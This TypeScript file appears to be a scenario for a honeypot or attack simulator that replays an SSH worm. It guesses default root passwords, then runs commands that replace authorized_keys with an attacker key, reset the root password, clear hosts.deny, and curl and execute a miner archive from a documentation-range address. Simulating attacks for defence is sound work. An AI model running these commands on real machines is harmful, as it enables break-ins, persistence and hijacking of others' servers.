import { type Draw, pick, shuffled } from '../../src/kit/seeded.ts';
import { SshClient } from '../clients/ssh.ts';
import { crowd, defineScenario, type Source } from '../scenario.ts';

/** What such worms try first. */
const credentials = [
  ['root', 'root'],
  ['root', 'admin'],
  ['root', '123456'],
  ['root', 'password'],
  ['root', '1qaz2wsx'],
  ['admin', 'admin'],
  ['ubuntu', 'ubuntu'],
  ['root', 'qwerty'],
] as const;
const tries = 6;
/** What the clients of such worms call themselves. */
const idents = ['SSH-2.0-Go', 'SSH-2.0-libssh_0.9.6', 'SSH-2.0-libssh2_1.10.0'];

/** SSH worms: guessed passwords, a look at the machine, a key of their own, another password, and a miner. */
export const sshWorm = defineScenario({
  name: 'ssh-worm',
  summary: 'an SSH worm: guessed passwords, a key of its own, and a miner',
  needs: ['ssh'],
  count: 3,
  async run(ground) {
    await crowd(ground, ground.count, 'worm', async (source) => {
      const client = await breakIn(source);
      if (!client) return;
      ground.say(`${source.address} got in by SSH, and leaves a key`);
      try {
        for (const command of commands(source.draw)) {
          await client.session();
          await client.request('exec', command);
          await client.closed();
        }
      } catch {
        // The server hangs up when it likes.
      }
      client.destroy();
    });
  },
});

async function breakIn(source: Source): Promise<SshClient | null> {
  const ident = pick(source.draw, idents);
  const pairs = shuffled(source.draw, credentials).slice(0, tries);
  for (let i = 0; i < pairs.length; ) {
    const connection = await source.dial('ssh');
    if (!connection) return null;
    try {
      const client = await SshClient.over(connection, { ident });
      await client.service();
      for (; i < pairs.length; i++) {
        const [user, secret] = pairs[i]!;
        if (await client.password(user, secret)) return client;
      }
      client.destroy();
    } catch {
      // Hung up on after a few wrong ones: it calls again.
      i++;
      connection.destroy();
    }
  }
  return null;
}

/** Addresses of RFC 5737: nobody has them. The key is none: its bytes are drawn. */
function commands(draw: Draw): string[] {
  const letters = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'];
  const text = (size: number) => Array.from({ length: size }, () => pick(draw, letters)).join('');
  const looks = shuffled(draw, [
    'cat /proc/cpuinfo | grep name | wc -l',
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    'ls -lh $(which ls)',
    'crontab -l',
    'uname -m',
    'lscpu | grep Model',
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
  ]);
  return [
    'cd ~; chattr -ia .ssh; lockr -ia .ssh',
    `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA${text(60)} mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
    ...looks.slice(0, 5),
    `echo "root:${text(12)}"|chpasswd|bash`,
    'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
    `cd /tmp && curl -fsSL http://192.0.2.${10 + Math.floor(draw() * 80)}/.x/dota3.tar.gz -o d.tar.gz && tar xf d.tar.gz && sh .rsync/initall`,
  ];
}
